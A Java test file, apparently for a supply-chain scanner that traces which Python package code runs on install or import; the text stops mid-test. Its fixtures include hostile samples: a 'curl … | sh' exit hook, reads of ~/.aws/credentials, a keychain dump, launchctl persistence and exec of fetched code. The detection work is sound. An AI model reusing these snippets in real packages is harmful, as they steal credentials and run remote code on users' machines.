package dev.chainhunt.manifest;

import dev.chainhunt.deobf.Budget;
import dev.chainhunt.deobf.python.PyEvaluator;
import dev.chainhunt.deobf.python.PyModel;
import dev.chainhunt.lang.python.PyParser;
import dev.chainhunt.model.Trigger;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

class EntryPointsTest {

    private static PyModel model(String code) {
        return PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults()).reachOnly();
    }

    private static final String SETUP = """
            import requests
            from setuptools import setup, Command
            from setuptools.command.install import install
            from demo import version

            def helper(u):
                return requests.get(u)

            def unused():
                requests.get('https://example.invalid/unused')

            class Post(install):
                def run(self):
                    self.fetch()
                    install.run(self)
                def fetch(self):
                    helper('https://example.invalid/a')

            class Registered(Command):
                def run(self):
                    later()

            def later():
                requests.post('https://example.invalid/later')

            class Custom(Command):
                def run(self):
                    requests.get('https://example.invalid/custom')

            def outer():
                def inner():
                    requests.get('https://example.invalid/inner')
                inner()

            outer()
            def on_exit():
                requests.get('https://example.invalid/exit')
            import atexit
            atexit.register(on_exit)
            setup(name='demo', cmdclass={'install': Post, 'develop': Registered, 'schema': Custom})
            """;

    @Test
    void pipRunsModuleLevelCodeTheCommandsItInvokesAndWhatTheyCall() {
        EntryPoints entryPoints = new EntryPoints(List.of("demo-1.0/setup.py", "demo-1.0/demo/__init__.py",
                "demo-1.0/demo/version.py", "demo-1.0/demo/other.py"));
        PyModel setup = model(SETUP);
        assertThat(entryPoints.moduleTrigger("demo-1.0/setup.py")).isEqualTo(Trigger.INSTALL);
        EntryPoints.Reach reach = entryPoints.reach("demo-1.0/setup.py", setup, Trigger.INSTALL);
        assertThat(reach.trigger("<module>")).isEqualTo(Trigger.INSTALL);
        assertThat(reach.trigger("Post.fetch")).as("a method of an install subclass").isEqualTo(Trigger.INSTALL);
        assertThat(reach.trigger("helper")).as("called from the install command").isEqualTo(Trigger.INSTALL);
        assertThat(reach.trigger("later")).as("called from a command registered as develop").isEqualTo(Trigger.INSTALL);
        assertThat(reach.trigger("outer.inner")).isEqualTo(Trigger.INSTALL);
        assertThat(reach.trigger("unused")).as("never called").isEqualTo(Trigger.NONE);
        assertThat(reach.trigger("on_exit")).as("an exit hook").isEqualTo(Trigger.INSTALL);
        assertThat(reach.trigger("Custom.run")).as("a custom command pip never runs").isEqualTo(Trigger.NONE);
        assertThat(entryPoints.moduleTrigger("demo-1.0/demo/version.py")).as("imported by setup.py").isEqualTo(Trigger.INSTALL);
        assertThat(entryPoints.moduleTrigger("demo-1.0/demo/__init__.py")).as("its package").isEqualTo(Trigger.INSTALL);
        assertThat(entryPoints.moduleTrigger("demo-1.0/demo/other.py")).isEqualTo(Trigger.NONE);
    }

    @Test
    void packagesRunWhatTheirInitImportsRelativeOrAbsolute() {
        EntryPoints entryPoints = new EntryPoints(List.of("pkg/__init__.py", "pkg/core.py", "pkg/util/__init__.py",
                "pkg/util/net.py", "pkg/lazy.py", "pkg/unrelated.py"));
        PyModel init = model("""
                from .core import run
                from . import util
                import pkg.util.net
                def later():
                    from . import lazy
                """);
        entryPoints.reach("pkg/__init__.py", init, entryPoints.moduleTrigger("pkg/__init__.py"));
        assertThat(entryPoints.moduleTrigger("pkg/core.py")).isEqualTo(Trigger.IMPORT);
        assertThat(entryPoints.moduleTrigger("pkg/util/__init__.py")).isEqualTo(Trigger.IMPORT);
        assertThat(entryPoints.moduleTrigger("pkg/util/net.py")).isEqualTo(Trigger.IMPORT);
        assertThat(entryPoints.moduleTrigger("pkg/lazy.py")).as("imported in a function nobody calls").isEqualTo(Trigger.NONE);
        assertThat(entryPoints.moduleTrigger("pkg/unrelated.py")).isEqualTo(Trigger.NONE);
    }

    @Test
    void aPackageFolderScannedOnItsOwnResolvesItsRelativeImports() {
        // The folder of an installed package (site-packages/pkg) given as the target: its
        // __init__.py is at the top, and `from ._c import X` names _c.py beside it.
        EntryPoints entryPoints = new EntryPoints(List.of("__init__.py", "_c.py", "util/__init__.py", "util/net.py"));
        assertThat(entryPoints.moduleFile("__init__.py", "._c")).isEqualTo("_c.py");
        assertThat(entryPoints.moduleFile("util/net.py", "..util")).isEqualTo("util/__init__.py");
        assertThat(entryPoints.moduleFile("__init__.py", ".._c")).as("above the top").isNull();
        entryPoints.reach("__init__.py", model("from . import util\nfrom .util import net\n"), entryPoints.moduleTrigger("__init__.py"));
        assertThat(entryPoints.moduleTrigger("util/net.py")).isEqualTo(Trigger.IMPORT);
    }

    @Test
    void functionsOfOtherModulesCalledByCodeThatRunsOnItsOwnRunThen() {
        EntryPoints entryPoints = new EntryPoints(List.of("p-1/setup.py", "p-1/p/__init__.py", "p-1/p/installer.py",
                "p-1/p/version.py"));
        PyModel init = model("""
                from .installer import install
                install()
                """);
        entryPoints.reach("p-1/p/__init__.py", init, entryPoints.moduleTrigger("p-1/p/__init__.py"));
        PyModel installer = model("""
                import os
                def install():
                    helper()
                def helper():
                    os.system('echo hi')
                def unused():
                    os.system('echo no')
                """);
        EntryPoints.Reach reach = entryPoints.reach("p-1/p/installer.py", installer, entryPoints.moduleTrigger("p-1/p/installer.py"));
        assertThat(reach.trigger("install")).isEqualTo(Trigger.IMPORT);
        assertThat(reach.trigger("helper")).isEqualTo(Trigger.IMPORT);
        assertThat(reach.trigger("unused")).isEqualTo(Trigger.NONE);
        PyModel setup = model("""
                import p.version
                from setuptools import setup
                setup(version=p.version.get())
                """);
        entryPoints.reach("p-1/setup.py", setup, Trigger.INSTALL);
        PyModel version = model("def get():\n    return '1.0'\n");
        assertThat(entryPoints.reach("p-1/p/version.py", version, entryPoints.moduleTrigger("p-1/p/version.py")).trigger("get"))
                .isEqualTo(Trigger.INSTALL);
    }

    @Test
    void aWheelsTopLevelModulesRunOnImport() {
        EntryPoints wheel = new EntryPoints(List.of("index.py", "pkg/helper.py", "index-1.0.dist-info/WHEEL",
                "index-1.0.dist-info/RECORD"));
        assertThat(wheel.moduleTrigger("index.py")).isEqualTo(Trigger.IMPORT);
        assertThat(wheel.moduleTrigger("pkg/helper.py")).isEqualTo(Trigger.NONE);
        EntryPoints sdist = new EntryPoints(List.of("index-1.0/index.py", "index-1.0/setup.py", "index-1.0/PKG-INFO"));
        assertThat(sdist.moduleTrigger("index-1.0/index.py")).as("an sdist's loose script").isEqualTo(Trigger.NONE);
    }

    @Test
    void installersAndPackagesAreScannedBeforeWhatTheyImport() {
        List<String> files = List.of("p-1/p/z.py", "p-1/p/__init__.py", "p-1/setup.py", "p-1/p/sub/__init__.py");
        EntryPoints entryPoints = new EntryPoints(files);
        List<String> order = files.stream().sorted(java.util.Comparator.comparingInt(entryPoints::rank)).toList();
        assertThat(order).containsExactly("p-1/setup.py", "p-1/p/__init__.py", "p-1/p/sub/__init__.py", "p-1/p/z.py");
    }

    @Test
    void anInTreeBuildBackendRunsFirstAndImportsFromItsBackendPath() {
        List<String> files = List.of("c-1/pyproject.toml", "c-1/_backend/_probe.py", "c-1/_backend/backend.py", "c-1/c/__init__.py");
        EntryPoints entryPoints = new EntryPoints(files);
        entryPoints.pyproject("c-1/pyproject.toml", """
                [build-system]
                requires = ["setuptools"]
                build-backend = "backend"
                backend-path = ["_backend"]
                """.getBytes(java.nio.charset.StandardCharsets.UTF_8));
        assertThat(files.stream().sorted(java.util.Comparator.comparingInt(entryPoints::rank)).findFirst()).hasValue("c-1/_backend/backend.py");
        assertThat(entryPoints.moduleFile("c-1/_backend/backend.py", "_probe")).isEqualTo("c-1/_backend/_probe.py");
        entryPoints.reach("c-1/_backend/backend.py", model("from _probe import record\ndef build_wheel(d, c=None, m=None):\n    record('b')\n"),
                entryPoints.moduleTrigger("c-1/_backend/backend.py"));
        assertThat(entryPoints.reach("c-1/_backend/_probe.py", model("def record(stage):\n    pass\n"),
                entryPoints.moduleTrigger("c-1/_backend/_probe.py")).trigger("record")).isEqualTo(Trigger.INSTALL);
    }

    @Test
    void aMainBlockRunsOnInstallInSetupPyAndOtherwiseOnlyWhenTheFileIsRun() {
        EntryPoints entryPoints = new EntryPoints(List.of("m-1/setup.py", "m-1/m/__init__.py"));
        String code = """
                import os
                def regenerate():
                    os.system('make tables')
                if __name__ == '__main__':
                    regenerate()
                """;
        EntryPoints.Reach library = entryPoints.reach("m-1/m/__init__.py", model(code), entryPoints.moduleTrigger("m-1/m/__init__.py"));
        assertThat(library.trigger("<module>")).isEqualTo(Trigger.IMPORT);
        assertThat(library.trigger("regenerate")).as("not on import").isEqualTo(Trigger.SCRIPT);
        EntryPoints.Reach setup = entryPoints.reach("m-1/setup.py", model(code), Trigger.INSTALL);
        assertThat(setup.trigger("regenerate")).as("pip runs setup.py as __main__").isEqualTo(Trigger.INSTALL);
    }

    @Test
    void anInTreeBuildBackendAndSitecustomizeRunOnInstall() {
        EntryPoints entryPoints = new EntryPoints(List.of("b-1/pyproject.toml", "b-1/_build/backend.py", "b-1/b/__init__.py",
                "b-1/sitecustomize.py", "b-1/b/sitecustomize.py"));
        entryPoints.pyproject("b-1/pyproject.toml", """
                [build-system]
                requires = ["setuptools"]
                build-backend = "backend"
                backend-path = ["_build"]
                """.getBytes(java.nio.charset.StandardCharsets.UTF_8));
        assertThat(entryPoints.moduleTrigger("b-1/_build/backend.py")).isEqualTo(Trigger.INSTALL);
        EntryPoints.Reach reach = entryPoints.reach("b-1/_build/backend.py", model("""
                def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
                    return helper()
                def helper():
                    return str('x.whl')
                def unrelated():
                    print('no')
                """), entryPoints.moduleTrigger("b-1/_build/backend.py"));
        assertThat(reach.trigger("build_wheel")).as("a hook pip calls").isEqualTo(Trigger.INSTALL);
        assertThat(reach.trigger("helper")).isEqualTo(Trigger.INSTALL);
        assertThat(reach.trigger("unrelated")).isEqualTo(Trigger.NONE);
        assertThat(entryPoints.moduleTrigger("b-1/sitecustomize.py")).as("runs at every interpreter start").isEqualTo(Trigger.INSTALL);
        assertThat(entryPoints.moduleTrigger("b-1/b/sitecustomize.py")).as("inside a package it is just a module")
                .isNotEqualTo(Trigger.INSTALL);
    }

    @Test
    void hatchlingAndPdmBuildHooksRunOnInstall() {
        EntryPoints hatch = new EntryPoints(List.of("h-1/pyproject.toml", "h-1/tools/hook.py", "h-1/hatch_build.py", "h-1/h/__init__.py"));
        hatch.pyproject("h-1/pyproject.toml", """
                [build-system]
                build-backend = "hatchling.build"

                [tool.hatch.build.targets.wheel.hooks.custom]
                path = "tools/hook.py"

                [tool.hatch.version]
                path = "h/__init__.py"
                """.getBytes(java.nio.charset.StandardCharsets.UTF_8));
        assertThat(hatch.moduleTrigger("h-1/tools/hook.py")).as("hatchling imports the hook file").isEqualTo(Trigger.INSTALL);
        assertThat(hatch.moduleTrigger("h-1/hatch_build.py")).as("not the default when a path is given").isEqualTo(Trigger.NONE);
        assertThat(hatch.moduleTrigger("h-1/h/__init__.py")).as("a path of another table").isNotEqualTo(Trigger.INSTALL);
        EntryPoints.Reach hook = hatch.reach("h-1/tools/hook.py", model("""
                from hatchling.builders.hooks.plugin.interface import BuildHookInterface
                class Provenance(BuildHookInterface):
                    def initialize(self, version, build_data):
                        self.send()
                    def send(self):
                        print('sent')
                class Unrelated:
                    def initialize(self):
                        print('not a hook')
                """), hatch.moduleTrigger("h-1/tools/hook.py"));
        assertThat(hook.trigger("Provenance.initialize")).isEqualTo(Trigger.INSTALL);
        assertThat(hook.trigger("Provenance.send")).isEqualTo(Trigger.INSTALL);
        assertThat(hook.trigger("Unrelated.initialize")).isEqualTo(Trigger.NONE);

        EntryPoints defaults = new EntryPoints(List.of("d-1/pyproject.toml", "d-1/hatch_build.py"));
        defaults.pyproject("d-1/pyproject.toml", "[tool.hatch.metadata.hooks.custom]\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        assertThat(defaults.moduleTrigger("d-1/hatch_build.py")).isEqualTo(Trigger.INSTALL);

        EntryPoints pdm = new EntryPoints(List.of("p-1/pyproject.toml", "p-1/pdm_build.py"));
        pdm.pyproject("p-1/pyproject.toml", "[build-system]\nbuild-backend = \"pdm.backend\"\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        EntryPoints.Reach pdmHook = pdm.reach("p-1/pdm_build.py", model("""
                def pdm_build_initialize(context):
                    print('hook')
                def other():
                    print('not a hook')
                """), pdm.moduleTrigger("p-1/pdm_build.py"));
        assertThat(pdmHook.trigger("pdm_build_initialize")).isEqualTo(Trigger.INSTALL);
        assertThat(pdmHook.trigger("other")).isEqualTo(Trigger.NONE);
    }

    @Test
    void aDecoratorRunsAtDefinitionButNotTheWrapperItReturns() {
        EntryPoints entryPoints = new EntryPoints(List.of("w-1/w/__init__.py"));
        EntryPoints.Reach reach = entryPoints.reach("w-1/w/__init__.py", model("""
                import functools, os
                def needs_aws(f):
                    print('registered')
                    @functools.wraps(f)
                    def wrapper(*a, **k):
                        return f(open(os.path.expanduser('~/.aws/credentials')).read(), *a, **k)
                    return wrapper
                @needs_aws
                def upload(creds, bucket):
                    return bucket
                """), entryPoints.moduleTrigger("w-1/w/__init__.py"));
        assertThat(reach.trigger("needs_aws")).isEqualTo(Trigger.IMPORT);
        assertThat(reach.trigger("needs_aws.wrapper")).as("runs when upload() is called").isEqualTo(Trigger.NONE);
    }

    @Test
    void aDecoratorAppliedByACallDoesNotRunItsWrapperEither() {
        EntryPoints entryPoints = new EntryPoints(List.of("t-1/t/__init__.py"));
        EntryPoints.Reach reach = entryPoints.reach("t-1/t/__init__.py", model("""
                import logging, urllib.request
                def logged(name):
                    def apply(fn):
                        def inner(*a):
                            logging.info(name)
                            return fn(*a)
                        return inner
                    return apply
                def download(url):
                    return urllib.request.urlopen(url).read()
                download = logged('dl')(download)
                """), entryPoints.moduleTrigger("t-1/t/__init__.py"));
        assertThat(reach.trigger("<module>")).isEqualTo(Trigger.IMPORT);
        assertThat(reach.trigger("logged.apply.inner")).as("runs when download() is called").isEqualTo(Trigger.NONE);
        assertThat(reach.trigger("download")).isEqualTo(Trigger.NONE);
    }

    @Test
    void aClassOfThePackageNamedLikeACommandIsNotPipsCommand() {
        // setuptools' own develop command subclasses its own easy_install: neither runs on its install.
        EntryPoints entryPoints = new EntryPoints(List.of("s-1/s/__init__.py", "s-1/s/command/easy_install.py",
                "s-1/s/command/develop.py", "s-1/s/command/install.py"));
        EntryPoints.Reach own = entryPoints.reach("s-1/s/command/develop.py", model("""
                import subprocess
                from s.command.easy_install import easy_install
                class develop(easy_install):
                    def run(self):
                        subprocess.call(['make'])
                """), Trigger.INSTALL);
        assertThat(own.trigger("<module>")).isEqualTo(Trigger.INSTALL);
        assertThat(own.trigger("develop.run")).as("imported on install, not run").isEqualTo(Trigger.NONE);
        EntryPoints.Reach pips = entryPoints.reach("s-1/s/command/install.py", model("""
                import subprocess
                from setuptools.command.install import install as orig
                class install(orig):
                    def run(self):
                        subprocess.call(['make'])
                """), Trigger.NONE);
        assertThat(pips.trigger("install.run")).as("a subclass of pip's own install command").isEqualTo(Trigger.INSTALL);
    }

    @Test
    void whatABuildOptionGuardsRunsOnlyWhenTheBuilderSetsIt() {
        EntryPoints entryPoints = new EntryPoints(List.of("o-1/setup.py", "o-1/o/__init__.py", "o-1/o/fetch.py"));
        entryPoints.reach("o-1/setup.py", model("""
                import os
                from o import fetch
                STATIC_DEPS = os.environ.get('O_STATIC_DEPS')
                if STATIC_DEPS:
                    fetch.sources()
                if os.environ.get('CI'):
                    fetch.in_ci()
                if not os.environ.get('SKIP_BUILD_CHECK'):
                    fetch.check()
                """), Trigger.INSTALL);
        EntryPoints.Reach fetch = entryPoints.reach("o-1/o/fetch.py", model("""
                import urllib.request
                def sources():
                    urllib.request.urlretrieve('https://example.invalid/lib.tar.gz', 'lib.tar.gz')
                def in_ci():
                    urllib.request.urlopen('https://example.invalid/ci')
                def check():
                    urllib.request.urlopen('https://example.invalid/check')
                """), entryPoints.moduleTrigger("o-1/o/fetch.py"));
        assertThat(fetch.trigger("sources")).as("behind a build option").isEqualTo(Trigger.NONE);
        assertThat(fetch.trigger("in_ci")).as("CI is where it runs, not an option").isEqualTo(Trigger.INSTALL);
        assertThat(fetch.trigger("check")).as("runs unless the option is set").isEqualTo(Trigger.INSTALL);
    }

    @Test
    void definingASubclassRunsItsBasesInitSubclassHook() {
        EntryPoints entryPoints = new EntryPoints(List.of("k-1/k/__init__.py", "k-1/k/base.py", "k-1/k/backends.py"));
        entryPoints.reach("k-1/k/__init__.py", model("from . import backends\n"), entryPoints.moduleTrigger("k-1/k/__init__.py"));
        entryPoints.reach("k-1/k/backends.py", model("""
                from .base import Backend
                class Keychain(Backend):
                    name = 'macos'
                """), entryPoints.moduleTrigger("k-1/k/backends.py"));
        EntryPoints.Reach base = entryPoints.reach("k-1/k/base.py", model("""
                import threading, subprocess
                def _probe():
                    subprocess.run(['security', 'dump-keychain'])
                class Backend:
                    def __init_subclass__(cls, **kw):
                        threading.Thread(target=_probe).start()
                    def get(self, service):
                        subprocess.run(['security', 'find-generic-password', '-s', service])
                """), entryPoints.moduleTrigger("k-1/k/base.py"));
        assertThat(base.trigger("Backend.__init_subclass__")).isEqualTo(Trigger.IMPORT);
        assertThat(base.trigger("_probe")).isEqualTo(Trigger.IMPORT);
        assertThat(base.trigger("Backend.get")).isEqualTo(Trigger.NONE);
    }

    @Test
    void hooksADecoratorRegisteredRunWhenTheirRunnerIsCalledOnImport() {
        EntryPoints entryPoints = new EntryPoints(List.of("h-1/h/__init__.py", "h-1/h/_platform.py"));
        entryPoints.reach("h-1/h/__init__.py", model("from ._platform import run_hooks\nrun_hooks()\n"),
                entryPoints.moduleTrigger("h-1/h/__init__.py"));
        EntryPoints.Reach platform = entryPoints.reach("h-1/h/_platform.py", model("""
                import subprocess
                _HOOKS = []
                def platform_hook(fn):
                    _HOOKS.append(fn)
                    return fn
                def run_hooks():
                    for hook in _HOOKS:
                        hook()
                @platform_hook
                def _register_agent():
                    subprocess.run(['launchctl', 'load', '-w', 'agent.plist'])
                def _unregistered():
                    subprocess.run(['launchctl', 'unload', 'agent.plist'])
                """), entryPoints.moduleTrigger("h-1/h/_platform.py"));
        assertThat(platform.trigger("run_hooks")).isEqualTo(Trigger.IMPORT);
        assertThat(platform.trigger("_register_agent")).isEqualTo(Trigger.IMPORT);
        assertThat(platform.trigger("_unregistered")).isEqualTo(Trigger.NONE);
    }

    @Test
    void aModuleOrScriptOfThePackageStartedAsAPythonProgramRunsThenWithItsMainBlock() {
        EntryPoints entryPoints = new EntryPoints(List.of("g-1/setup.py", "g-1/helper.py", "g-1/g/__init__.py", "g-1/g/gateway.py",
                "g-1/g/tool.py"));
        entryPoints.reach("g-1/g/__init__.py", model("""
                import subprocess, sys
                subprocess.Popen([sys.executable, "-m", "g.gateway"], start_new_session=True)
                def cli():
                    subprocess.run([sys.executable, "-m", "g.tool"])
                """), entryPoints.moduleTrigger("g-1/g/__init__.py"));
        entryPoints.reach("g-1/setup.py", model("import os\nos.system('python3 helper.py &')\n"), entryPoints.moduleTrigger("g-1/setup.py"));
        String gateway = "import os\nif __name__ == '__main__':\n    os.system('id')\n";
        assertThat(entryPoints.reach("g-1/g/gateway.py", model(gateway), entryPoints.moduleTrigger("g-1/g/gateway.py")).trigger(PyEvaluator.MAIN))
                .isEqualTo(Trigger.IMPORT);
        assertThat(entryPoints.moduleTrigger("g-1/helper.py")).isEqualTo(Trigger.INSTALL);
        assertThat(entryPoints.reach("g-1/g/tool.py", model(gateway), entryPoints.moduleTrigger("g-1/g/tool.py")).trigger(PyEvaluator.MAIN))
                .as("started only when called").isEqualTo(Trigger.SCRIPT);
    }

    @Test
    void aModuleIsScannedAfterThePackageModulesThatImportIt() {
        List<String> paths = List.of("p-1/setup.py", "p-1/p/__init__.py", "p-1/p/a.py", "p-1/p/b.py", "p-1/p/c.py",
                "p-1/p/sub/__init__.py", "p-1/p/sub/d.py", "p-1/README.md");
        EntryPoints entryPoints = new EntryPoints(paths);
        Map<String, String> code = Map.of(
                "p-1/p/__init__.py", "from .c import run\n",
                "p-1/p/c.py", "from . import (\n    b,\n)\nimport p.sub.d as d\n",
                "p-1/p/b.py", "from .a import helper\n",
                "p-1/p/a.py", "def helper():\n    from .c import run  # a cycle, broken by rank\n",
                "p-1/p/sub/d.py", "import os\n");
        List<String> order = entryPoints.order(paths, p -> p,
                p -> code.getOrDefault(p, "").getBytes(java.nio.charset.StandardCharsets.UTF_8));
        assertThat(order).as(order.toString()).containsExactlyInAnyOrderElementsOf(paths);
        assertThat(order.get(0)).isEqualTo("p-1/setup.py");
        assertThat(order.indexOf("p-1/p/c.py")).isLessThan(order.indexOf("p-1/p/b.py"));
        assertThat(order.indexOf("p-1/p/b.py")).isLessThan(order.indexOf("p-1/p/a.py"));
        assertThat(order.indexOf("p-1/p/c.py")).isLessThan(order.indexOf("p-1/p/sub/d.py"));
    }

    @Test
    void aHatchPluginPackagesOwnHookClassesDoNotRunOnItsInstall() {
        EntryPoints entryPoints = new EntryPoints(List.of("hp-1/pyproject.toml", "hp-1/hatch_mypy/plugin.py"));
        entryPoints.pyproject("hp-1/pyproject.toml", "[build-system]\nbuild-backend = \"hatchling.build\"\n"
                .getBytes(java.nio.charset.StandardCharsets.UTF_8));
        EntryPoints.Reach reach = entryPoints.reach("hp-1/hatch_mypy/plugin.py", model("""
                import subprocess
                from hatchling.builders.hooks.plugin.interface import BuildHookInterface
                class MypycHook(BuildHookInterface):
                    def initialize(self, version, build_data):
                        subprocess.run(['mypyc', 'src'])
                """), entryPoints.moduleTrigger("hp-1/hatch_mypy/plugin.py"));
        assertThat(reach.trigger("MypycHook.initialize")).isEqualTo(Trigger.NONE);
    }

    @Test
    void aHostilePyprojectIsReadSafely() {
        EntryPoints entryPoints = new EntryPoints(List.of("h-1/pyproject.toml", "h-1/x.py"));
        String hostile = "\n".repeat(200_000) + "[build-system]\nbuild-backend = \"x\"\nbackend-path = [\"a\u0000b\", \"../../..\"]\n";
        entryPoints.pyproject("h-1/pyproject.toml", hostile.getBytes(java.nio.charset.StandardCharsets.UTF_8));
        assertThat(entryPoints.moduleTrigger("h-1/x.py")).isEqualTo(Trigger.NONE);
    }

    private static final String REGISTRY = """
            _LOADERS = []
            _BY_NAME = {}
            def on_load(fn):
                _LOADERS.append(fn)
                return fn
            def named(fn):
                _BY_NAME[fn.__name__] = fn
                return fn
            def run_loaders():
                for fn in _LOADERS:
                    fn()
            def run_named():
                for name, fn in _BY_NAME.items():
                    fn()
            """;
    private static final String PLATFORM = """
            import os
            from ._registry import on_load, named
            @on_load
            def _service():
                os.system('systemctl --user enable agent')
            @named
            def _kept():
                os.system('echo kept')
            def _plain():
                os.system('echo plain')
            """;

    @Test
    void aFunctionRegisteredWithAnotherModulesDecoratorRunsWhenItsRunnerRunsWhateverTheOrder() {
        for (boolean registryFirst : List.of(true, false)) {
            EntryPoints entryPoints = new EntryPoints(List.of("r-1/r/__init__.py", "r-1/r/_registry.py", "r-1/r/_platform.py"));
            entryPoints.reach("r-1/r/__init__.py", model("""
                    from ._registry import run_loaders
                    from . import _platform
                    run_loaders()
                    """), entryPoints.moduleTrigger("r-1/r/__init__.py"));
            if (registryFirst) {
                entryPoints.reach("r-1/r/_registry.py", model(REGISTRY), entryPoints.moduleTrigger("r-1/r/_registry.py"));
            }
            int before = entryPoints.changes("r-1/r/_platform.py");
            EntryPoints.Reach platform = entryPoints.reach("r-1/r/_platform.py", model(PLATFORM), entryPoints.moduleTrigger("r-1/r/_platform.py"));
            if (!registryFirst) {
                entryPoints.reach("r-1/r/_registry.py", model(REGISTRY), entryPoints.moduleTrigger("r-1/r/_registry.py"));
            }
            // As the scanner does: a file whose marks grew since its reach was computed is reached again.
            assertThat(entryPoints.changes("r-1/r/_platform.py")).isGreaterThan(before);
            platform = entryPoints.reach("r-1/r/_platform.py", model(PLATFORM), entryPoints.moduleTrigger("r-1/r/_platform.py"));
            assertThat(platform.trigger("_service")).as("registry first: %s", registryFirst).isEqualTo(Trigger.IMPORT);
            // Registered where no code that runs calls the items (run_named is never called), or not registered.
            assertThat(platform.trigger("_kept")).isEqualTo(Trigger.NONE);
            assertThat(platform.trigger("_plain")).isEqualTo(Trigger.NONE);
        }
    }

    @Test
    void aRegistryNobodyRunsRunsNothing() {
        EntryPoints entryPoints = new EntryPoints(List.of("r-1/r/__init__.py", "r-1/r/_registry.py", "r-1/r/_platform.py"));
        entryPoints.reach("r-1/r/__init__.py", model("from . import _platform\n"), entryPoints.moduleTrigger("r-1/r/__init__.py"));
        entryPoints.reach("r-1/r/_registry.py", model(REGISTRY), entryPoints.moduleTrigger("r-1/r/_registry.py"));
        EntryPoints.Reach platform = entryPoints.reach("r-1/r/_platform.py", model(PLATFORM), entryPoints.moduleTrigger("r-1/r/_platform.py"));
        assertThat(platform.trigger("_service")).isEqualTo(Trigger.NONE);
    }

    @Test
    void anExitHookAppliedAsAnImportedDecoratorRunsThen() {
        EntryPoints entryPoints = new EntryPoints(List.of("x-1/x/__init__.py"));
        EntryPoints.Reach init = entryPoints.reach("x-1/x/__init__.py", model("""
                import atexit, os
                @atexit.register
                def _bye():
                    os.system('curl -s https://203.0.113.5/x | sh')
                """), entryPoints.moduleTrigger("x-1/x/__init__.py"));
        assertThat(init.trigger("_bye")).isEqualTo(Trigger.IMPORT);
    }

    @Test
    void aFunctionOfAnotherModuleStartedAsAThreadRunsThen() {
        EntryPoints entryPoints = new EntryPoints(List.of("t-1/t/__init__.py", "t-1/t/main.py"));
        entryPoints.reach("t-1/t/__init__.py", model("""
                import threading
                from .main import persist
                threading.Thread(target=persist, daemon=False).start()
                """), entryPoints.moduleTrigger("t-1/t/__init__.py"));
        EntryPoints.Reach main = entryPoints.reach("t-1/t/main.py", model("""
                import os
                def persist():
                    os.system('launchctl load x.plist')
                """), entryPoints.moduleTrigger("t-1/t/main.py"));
        assertThat(main.trigger("persist")).isEqualTo(Trigger.IMPORT);
    }

    @Test
    void aBoundMethodStartedAsAThreadRunsThenWithTheMethodsItCalls() {
        EntryPoints entryPoints = new EntryPoints(List.of("a-1/a/__init__.py"));
        EntryPoints.Reach reach = entryPoints.reach("a-1/a/__init__.py", model("""
                import threading, requests
                class Agent:
                    def poll(self):
                        return requests.get('https://example.invalid/task').text
                    def loop(self):
                        exec(self.poll())
                    def unused(self):
                        pass
                threading.Thread(target=Agent().loop, daemon=True).start()
                """), entryPoints.moduleTrigger("a-1/a/__init__.py"));
        assertThat(reach.trigger("Agent.loop")).isEqualTo(Trigger.IMPORT);
        assertThat(reach.trigger("Agent.poll")).isEqualTo(Trigger.IMPORT);
        assertThat(reach.trigger("Agent.unused")).isEqualTo(Trigger.NONE);
    }

    @Test
    void aMethodOfAnotherModulesClassStartedAsAThreadRunsThen() {
        EntryPoints entryPoints = new EntryPoints(List.of("m-1/m/__init__.py", "m-1/m/agent.py"));
        entryPoints.reach("m-1/m/__init__.py", model("""
                import threading
                from .agent import Agent
                threading.Thread(target=Agent('https://example.invalid').loop).start()
                """), entryPoints.moduleTrigger("m-1/m/__init__.py"));
        EntryPoints.Reach agent = entryPoints.reach("m-1/m/agent.py", model("""
                class Agent:
                    def loop(self):
                        pass
                """), entryPoints.moduleTrigger("m-1/m/agent.py"));
        assertThat(agent.trigger("Agent.loop")).isEqualTo(Trigger.IMPORT);
    }

    @Test
    void pytestPluginsRunOnImportBuildHooksAndConsoleScriptsDoNot() {
        EntryPoints entryPoints = new EntryPoints(List.of("p-1/setup.py", "p-1/setup.cfg", "p-1/p/__init__.py",
                "p-1/p/plugin.py", "p-1/p/writers.py", "p-1/p/cli.py", "p-1/p/command.py"));
        entryPoints.entryPoints("p-1/setup.cfg", """
                [metadata]
                name = p
                [options.entry_points]
                pytest11 =
                    p = p.plugin
                console_scripts =
                    p = p.cli:main
                """.getBytes());
        entryPoints.reach("p-1/setup.py", model("""
                from setuptools import setup
                setup(name='p', entry_points={'egg_info.writers': ['LIC.txt = p.writers:write'],
                                              'distutils.commands': 'upload = p.command:Upload'})
                """), Trigger.INSTALL);
        assertThat(entryPoints.moduleTrigger("p-1/p/plugin.py")).isEqualTo(Trigger.IMPORT);
        assertThat(entryPoints.moduleTrigger("p-1/p/cli.py")).isEqualTo(Trigger.NONE);
        EntryPoints.Reach plugin = entryPoints.reach("p-1/p/plugin.py", model("""
                def pytest_configure(config):
                    print(config)
                def helper():
                    print('helper')
                """), entryPoints.moduleTrigger("p-1/p/plugin.py"));
        assertThat(plugin.trigger("pytest_configure")).isEqualTo(Trigger.IMPORT);
        assertThat(plugin.trigger("helper")).isEqualTo(Trigger.NONE);
        EntryPoints.Reach writers = entryPoints.reach("p-1/p/writers.py", model("""
                def write(cmd, basename, filename):
                    cmd.write_file(basename, filename, '')
                """), entryPoints.moduleTrigger("p-1/p/writers.py"));
        assertThat(writers.trigger("write")).isEqualTo(Trigger.NONE); // runs when other projects build
        EntryPoints.Reach command = entryPoints.reach("p-1/p/command.py", model("""
                class Upload:
                    def run(self):
                        print('upload')
                """), entryPoints.moduleTrigger("p-1/p/command.py"));
        assertThat(command.trigger("Upload.run")).isEqualTo(Trigger.NONE);
    }

    @Test
    void entryPointTablesOfWheelsAndPyproject() {
        EntryPoints wheel = new EntryPoints(List.of("q/__init__.py", "q/hooks.py", "q-1.0.dist-info/entry_points.txt"));
        wheel.entryPoints("q-1.0.dist-info/entry_points.txt", "[console_scripts]\nq = q:main\n[pytest11]\nq = q.hooks\n".getBytes());
        assertThat(wheel.moduleTrigger("q/hooks.py")).isEqualTo(Trigger.IMPORT);
        EntryPoints project = new EntryPoints(List.of("r-1/pyproject.toml", "r-1/r/__init__.py", "r-1/r/finder.py"));
        project.entryPoints("r-1/pyproject.toml", """
                [project.entry-points."pytest11"]
                r = "r.finder"
